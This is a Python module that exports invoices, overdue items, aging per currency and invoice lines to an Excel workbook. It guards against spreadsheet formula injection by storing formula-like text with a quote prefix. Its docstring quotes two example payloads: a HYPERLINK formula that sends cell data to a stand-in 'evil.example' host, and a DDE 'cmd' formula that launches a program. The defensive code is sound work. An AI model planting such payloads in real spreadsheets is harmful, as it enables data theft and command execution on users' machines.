"""The consolidated workbook: every invoice, the overdue ones, the aging per currency, the lines.

* Invoices: one typed row per invoice (dates as dates, amounts as numbers with a number
  format), autofilter, frozen header row. Its headers are words the import understands, so
  importing the export changes nothing.
* Overdue: open invoices past their due date, oldest first, with days overdue and balance.
* Aging: open balances per currency in the buckets current / 1-30 / 31-60 / 61-90 / 90+ days
  past due, with a bar chart.
* Lines: every invoice line read (position, item, quantity, unit, price, net, tax), under its
  invoice's counterparty and number.

Every text is written as text, never as a formula: names and numbers come from senders, and a
vendor called ``=HYPERLINK("https://evil.example/?"&A1,"Open invoice")`` must not become a live
link (or ``=cmd|' /C calc'!A0`` a program) in the office's spreadsheet. A text that Excel or
LibreOffice would read as a formula when typed (one starting with = + - @, a tab or a line break)
is stored as a string cell with the quote-prefix style (what Excel itself saves for ``'=1+1``),
so it shows as text, stays text when the cell is edited, and reads back exactly as it was (an
apostrophe added to the value would come back in the next import).
"""

from __future__ import annotations

import os
import tempfile
from collections import defaultdict
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from db.models import Invoice, InvoiceStatus
from db.session import session_scope
from tasks.einvoice.records import invoice_lines
from tasks.errors import WorkbookError
from tasks.invoices.overview import AGING_BUCKETS, bucket_for_days, open_balance

COLUMNS: list[tuple[str, str]] = [
    ("Direction", "direction"), ("Counterparty", "counterparty"), ("Invoice number", "number"),
    ("Issue date", "issue_date"), ("Due date", "due_date"), ("Currency", "currency"), ("Net", "net"),
    ("Tax", "tax"), ("Total", "total"), ("Status", "status"), ("Paid on", "paid_date"),
    ("Paid amount", "paid_amount"), ("Reference", "reference"), ("VAT ID", "counterparty_vat_id"),
    ("IBAN", "iban"), ("Contact email", "contact_email"), ("Notes", "notes"),
]
OPEN_STATUSES = {InvoiceStatus.OPEN.value, InvoiceStatus.PARTIALLY_PAID.value}
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
_HEADER_FONT = Font(bold=True, color="FFFFFF")
_HEADER_FILL = PatternFill("solid", fgColor="305496")
_WIDTHS = {"counterparty": 32, "notes": 40, "number": 18, "contact_email": 28, "iban": 26, "reference": 18}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@dataclass(frozen=True)
class ExportResult:
    path: str
    invoices: int
    overdue: int
    currencies: list[str]


def _cell(invoice: Any, field: str) -> Any:
    value = getattr(invoice, field)
    if field == "status" and value:
        return value.replace("_", " ")
    if isinstance(value, Decimal):
        return float(value)
    if value == "":
        return None
    return value


def _data(sheet: Any, value: Any) -> Any:
    """``value`` for ``sheet.append``: a text that could be read as a formula as a string cell with
    the quote prefix; characters an .xlsx cannot hold (control characters) as U+FFFD."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    if not value.startswith(FORMULA_STARTS):
        return value
    cell = Cell(sheet, value=value)
    cell.data_type = "s"  # openpyxl made a formula of a leading "="
    cell.quotePrefix = True
    return cell


def _append(sheet: Any, values: list[Any]) -> None:
    sheet.append([_data(sheet, value) for value in values])


def _header(sheet: Any, headers: list[str]) -> None:
    _append(sheet, headers)
    for cell in sheet[sheet.max_row]:
        cell.font, cell.fill = _HEADER_FONT, _HEADER_FILL
        cell.alignment = Alignment(vertical="center")


def _typed_rows(sheet: Any, invoices: list[Any], extra: Callable[[Any], list[Any]] | None = None) -> None:
    headers = [h for h, _ in COLUMNS] + (["Days overdue", "Balance"] if extra else [])
    _header(sheet, headers)
    for invoice in invoices:
        _append(sheet, [_cell(invoice, f) for _, f in COLUMNS] + (extra(invoice) if extra else []))
    formats = {f: MONEY_FORMAT for f in ("net", "tax", "total", "paid_amount")}
    formats.update({f: DATE_FORMAT for f in ("issue_date", "due_date", "paid_date")})
    for index, (_, field) in enumerate(COLUMNS, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = _WIDTHS.get(field, 13)
        if field in formats:
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = formats[field]
    if extra:
        balance_column = len(COLUMNS) + 2
        sheet.column_dimensions[get_column_letter(balance_column)].width = 13
        for (cell,) in sheet.iter_rows(min_row=2, min_col=balance_column, max_col=balance_column):
            cell.number_format = MONEY_FORMAT
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = f"A1:{get_column_letter(len(headers))}{max(sheet.max_row, 2)}"


def _aging(sheet: Any, invoices: list[Any], today: date) -> list[str]:
    totals: dict[str, dict[str, Decimal]] = defaultdict(lambda: dict.fromkeys(AGING_BUCKETS, Decimal("0")))
    for invoice in invoices:
        if invoice.status not in OPEN_STATUSES:
            continue
        days = (today - invoice.due_date).days if invoice.due_date else 0
        totals[invoice.currency or "EUR"][bucket_for_days(days)] += open_balance(invoice)
    currencies = sorted(totals)
    sheet.append([f"Open balances by days past due on {today.isoformat()}"])
    sheet["A1"].font = Font(bold=True, size=13)
    sheet.append([])
    _header(sheet, ["Days past due", *currencies])
    for name in AGING_BUCKETS:
        _append(sheet, [name, *(float(totals[c][name]) for c in currencies)])
    sheet.append(["All", *(float(sum(totals[c].values(), Decimal("0"))) for c in currencies)])
    sheet.column_dimensions["A"].width = 16
    for row in sheet.iter_rows(min_row=4, min_col=2, max_col=max(2, len(currencies) + 1)):
        for cell in row:
            cell.number_format = MONEY_FORMAT
    sheet.freeze_panes = "B4"
    if currencies:
        chart = BarChart()
        chart.type = "col"
        chart.title = "Open balances by days past due"
        chart.y_axis.title = "Balance"
        chart.x_axis.title = "Days past due"
        data = Reference(sheet, min_col=2, max_col=len(currencies) + 1, min_row=3, max_row=3 + len(AGING_BUCKETS))
        chart.add_data(data, titles_from_data=True)
        chart.set_categories(Reference(sheet, min_col=1, min_row=4, max_row=3 + len(AGING_BUCKETS)))
        chart.width, chart.height = 18, 9
        sheet.add_chart(chart, f"{get_column_letter(len(currencies) + 3)}3")
    return currencies


# The invoice's columns are named so that importing the export never reads a line as an invoice.
LINE_COLUMNS: list[tuple[str, str]] = [
    ("Issuer", "counterparty"), ("Line of invoice", "number"), ("Position", "position"), ("Item", "description"),
    ("Quantity", "quantity"), ("Unit", "unit"), ("Unit price", "unit_price"), ("Line net amount", "net_amount"),
    ("Tax category", "tax_category"), ("Tax rate %", "tax_rate"),
]


def _lines(sheet: Any, lines: list[Any], invoices: dict[int, Any]) -> None:
    """Every invoice line, under its invoice's counterparty and number (amounts as numbers)."""
    _header(sheet, [h for h, _ in LINE_COLUMNS])
    for line in lines:
        invoice = invoices.get(line.invoice_id)
        values = {"counterparty": invoice.counterparty if invoice else None, "number": invoice.number if invoice else None}
        _append(sheet, [values[f] if f in values else _cell(line, f) for _, f in LINE_COLUMNS])
    for index, (_, field) in enumerate(LINE_COLUMNS, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = {"counterparty": 32, "description": 40}.get(field, 13)
        if field in ("unit_price", "net_amount"):
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = MONEY_FORMAT
    sheet.freeze_panes = "A2"


def export_workbook(
    path: str | Path, today: date | None = None, session_factory: Callable[[], Any] = session_scope,
    where: Any = None,
) -> ExportResult:
    """Write the consolidated workbook to ``path`` (atomically: a half-written file never appears);
    ``where`` (a condition on invoices, such as a view of the desk's list) exports only those."""
    target = Path(path)
    today = today or datetime.now().date()
    chosen = select(Invoice) if where is None else select(Invoice).where(where)
    with session_factory() as session:
        invoices = list(session.scalars(chosen.order_by(Invoice.direction, Invoice.counterparty_key,
                                                        Invoice.number)))
        lines = invoice_lines(session, [i.id for i in invoices] if where is not None else None)
        session.expunge_all()
    overdue = sorted(
        (i for i in invoices if i.status in OPEN_STATUSES and i.due_date and i.due_date < today),
        key=lambda i: (i.due_date, i.counterparty_key, i.number),
    )
    book = Workbook()
    sheet = book.active
    sheet.title = "Invoices"
    _typed_rows(sheet, invoices)
    _typed_rows(book.create_sheet("Overdue"), overdue,
                lambda i: [(today - i.due_date).days, float(open_balance(i))])
    currencies = _aging(book.create_sheet("Aging"), invoices, today)
    _lines(book.create_sheet("Lines"), lines, {i.id: i for i in invoices})
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        handle, temporary = tempfile.mkstemp(prefix=".export-", suffix=".xlsx", dir=target.parent)
        os.close(handle)
        book.save(temporary)
        os.replace(temporary, target)
    except OSError as err:
        raise WorkbookError(f"{target}: cannot write the workbook: {err}") from err
    return ExportResult(str(target), len(invoices), len(overdue), currencies)
